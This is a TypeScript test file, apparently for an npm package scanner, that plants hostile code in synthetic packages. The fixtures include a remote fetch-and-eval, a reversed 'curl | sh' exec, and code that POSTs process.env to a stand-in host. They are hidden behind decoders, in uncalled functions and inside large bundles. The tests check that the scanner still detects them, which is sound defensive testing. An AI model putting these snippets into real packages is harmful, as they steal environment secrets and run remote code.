/** A large JavaScript package is read only where words of interest stand; what is planted in it is found as in a small one. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { examine } from '../../src/engine/examine.ts';
import { Budget } from '../../src/kit/budget.ts';
import { forgeNpm } from '../forge/forge.ts';

type Files = Readonly<Record<string, string>>;

/** The rules that find something about a package beside `padding`, at which stage. */
function found(files: Files, padding: Files = {}): string[] {
  const bytes = forgeNpm({ name: 'x', version: '1.0.0', main: 'index.js' }, { ...padding, ...files });
  const report = examine({ target: 'x', name: 'x-1.0.0.tgz', bytes }, { budget: new Budget() });
  return [...new Set(report.findings.map(({ rule, stage }) => `${rule} ${stage}`))].sort();
}

/** Functions that compute, and nothing else. */
function arithmetic(from: number, count: number): string {
  return Array.from({ length: count }, (_, i) => `function area${from + i}(width, height) {\n  const size = width * height + ${from + i};\n  return size > 10 ? size / 2 : [size, width].map((x) => x + 1);\n}\n`).join('');
}

const LARGE: Files = Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`lib/part${i}.js`, `${arithmetic(i * 30, 30)}module.exports = { area${i * 30} };\n`]));

const EVIL = "require('https').get('https://files.example/run.js', (r) => r.on('data', (d) => eval(d.toString())));\n";
const REVERSED = [..."require('child_process').exec('curl -s https://files.example/a | sh')"].reverse().join('');

const PLANTED: Readonly<Record<string, Files>> = {
  'at the entry': { 'index.js': EVIL },
  'in a file that a chain without words loads': { 'index.js': "module.exports = require('./lib/core');\n", 'lib/core.js': "exports.run = require('./deep/evil');\n", 'lib/deep/evil.js': EVIL },
  'between two files of which neither says what they do together': {
    'index.js': "const { take } = require('./take');\nrequire('./send')(take());\n",
    'take.js': "exports.take = () => JSON.stringify(process.env);\n",
    'send.js': "module.exports = (text) => { const r = require('https').request({ host: 'files.example', method: 'POST' }); r.write(text); r.end(); };\n",
  },
  'behind a decoder in a file of its own': { 'index.js': `const flip = require('./flip');\neval(flip(${JSON.stringify(REVERSED)}));\n`, 'flip.js': "module.exports = (text) => text.split('').reverse().join('');\n" },
  'in a function that nothing calls': { 'index.js': "exports.update = require('./update');\n", 'update.js': `module.exports = function () {\n${EVIL}};\n` },
  'in the middle of a bundle': { 'index.js': `(() => {\n${arithmetic(0, 1500)}\n(function () {\n${EVIL}})();\n${arithmetic(1500, 1500)}})();\n` },
};

for (const [place, files] of Object.entries(PLANTED)) {
  test(`planted ${place}, it is found whatever surrounds it`, () => {
    const small = found(files);
    assert.ok(small.some((each) => !each.startsWith('computed-code')), `nothing is found in the small package: ${small.join(', ')}`);
    assert.deepEqual(found(files, LARGE), small);
  });
}

test('what is loaded needs one word, what somebody must call needs two that say something together', () => {
  const shell = "require('child_process').exec('curl -s https://files.example/a | sh');\n";
  assert.deepEqual(found({ 'index.js': 'module.exports = {};\n', 'tool.js': shell }, LARGE), found({ 'index.js': 'module.exports = {};\n', 'tool.js': shell }));
  const report = examine({ target: 'x', name: 'x-1.0.0.tgz', bytes: forgeNpm({ name: 'x', version: '1.0.0' }, { ...LARGE, 'index.js': 'module.exports = 1;\n' }) }, { budget: new Budget() });
  assert.equal(report.verdict, 'clean');
  assert.deepEqual(report.coverage.unread, []);
});
